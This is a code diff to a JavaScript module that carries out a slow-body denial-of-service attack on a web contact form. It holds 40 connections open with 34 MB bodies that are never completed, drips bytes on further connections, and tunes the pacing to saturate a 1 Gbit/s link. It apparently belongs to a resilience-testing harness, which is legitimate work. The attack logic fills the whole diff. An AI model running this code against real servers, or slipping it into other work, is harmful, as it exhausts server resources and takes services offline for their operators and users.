@@ -1,10 +1,13 @@
-/** Bodies at the contact form that do not end: 33 of 34 MB at once, and a byte now and then of a short one, from no page. */
+/** Bodies at the contact form that do not end: 33 of 34 MB, and a byte now and then of a short one, from no page. */
+import { once } from 'node:events';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { connect, headOf } from './sockets.mjs';
 
 const BODIES = 40;
 const PIECE = Buffer.alloc(1_000_000, 97);
 const PIECES = 33;
+/** All bodies together fill a line of 1 Gbit/s: more of it would measure the loopback, not the edge. */
+const PIECE_EVERY_MS = 400;
 
 export async function slowBodies(attack) {
   const head = (bytes) =>
@@ -15,7 +18,7 @@ export async function slowBodies(attack) {
   const dripping = [];
   for (let at = 0; at < BODIES; at++) {
     const large = connect(attack, attack.address(1), head(34_000_000));
-    void fill(large);
+    void fill(large, attack.signal);
     dripping.push(connect(attack, attack.address(2), head(90_000)));
   }
   while (!attack.signal.aborted) {
@@ -24,12 +27,9 @@ export async function slowBodies(attack) {
   }
 }
 
-async function fill(socket) {
+async function fill(socket, signal) {
   for (let piece = 0; piece < PIECES && socket.writable; piece++) {
-    if (socket.write(PIECE)) continue;
-    await new Promise((done) => {
-      socket.once('drain', done);
-      socket.once('close', done);
-    });
+    if (!socket.write(PIECE)) await once(socket, 'drain', { signal }).catch(() => {});
+    await sleep(PIECE_EVERY_MS, undefined, { signal }).catch(() => {});
   }
 }
